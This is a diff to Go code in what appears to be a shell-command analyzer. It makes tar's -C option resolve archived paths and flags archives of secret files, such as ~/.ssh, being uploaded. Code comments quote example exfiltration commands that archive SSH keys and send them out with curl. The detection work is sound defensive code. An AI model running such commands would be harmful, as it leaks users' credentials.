@@ -396,6 +396,7 @@ func (a *analyzer) noteArchive(argv []string) {
 	case "tar":
 		var content []string
 		create := false
+		dir := "" // -C's folder: the operands after it are named from there
 		for i := 0; i < len(args); i++ {
 			x := args[i]
 			switch {
@@ -407,7 +408,12 @@ func (a *analyzer) noteArchive(argv []string) {
 			case strings.HasPrefix(x, "--file="):
 				file = strings.TrimPrefix(x, "--file=")
 			case x == "-C" || x == "--directory":
+				if i+1 < len(args) {
+					dir = args[i+1]
+				}
 				i++
+			case strings.HasPrefix(x, "--directory="):
+				dir = strings.TrimPrefix(x, "--directory=")
 			case x == "-c" || x == "--create":
 				create = true
 			case strings.HasPrefix(x, "--"):
@@ -420,6 +426,9 @@ func (a *analyzer) noteArchive(argv []string) {
 					i++
 				}
 			default:
+				if dir != "" && !strings.HasPrefix(x, "/") && !strings.HasPrefix(x, "~") && !strings.HasPrefix(x, "$") {
+					x = dir + "/" + x // `tar czf k.tgz -C ~ .ssh`: ~/.ssh
+				}
 				content = append(content, x)
 			}
 		}
@@ -460,8 +469,9 @@ func (a *analyzer) noteArchive(argv []string) {
 	a.archives[a.fileKey(file)] = holds
 }
 
-// archiveHolds returns "home" when paths name the home folder itself, "project" when they name
-// the whole project, else "".
+// archiveHolds returns "home" when paths name the home folder itself, "secrets" when they
+// name a secret file or folder (`~/.ssh`, `~/.aws/credentials`: secretFile), "project" when
+// they name the whole project, else "".
 func (a *analyzer) archiveHolds(paths []string) string {
 	holds := ""
 	for _, x := range paths {
@@ -469,7 +479,9 @@ func (a *analyzer) archiveHolds(paths []string) string {
 		if homeDir(r) || userHome.MatchString(path.Clean(r)) {
 			return "home"
 		}
-		if a.projectRoot(x) {
+		if secretFile(x) || secretFile(r) {
+			holds = "secrets"
+		} else if a.projectRoot(x) && holds == "" {
 			holds = "project"
 		}
 	}
@@ -535,6 +547,10 @@ func (a *analyzer) uploadArchive(name string, args []string, line string) {
 			return
 		case "project":
 			a.ask("exfil/project_to_host", "sends an archive of the whole project to another host", line, 0.85)
+			return
+		case "secrets":
+			// `tar czf /tmp/k.tgz -C ~ .ssh && curl -T /tmp/k.tgz URL`
+			a.add("exfil/secret_file", "sends an archive of secret files to another host", line, 0.95)
 			return
 		}
 	}
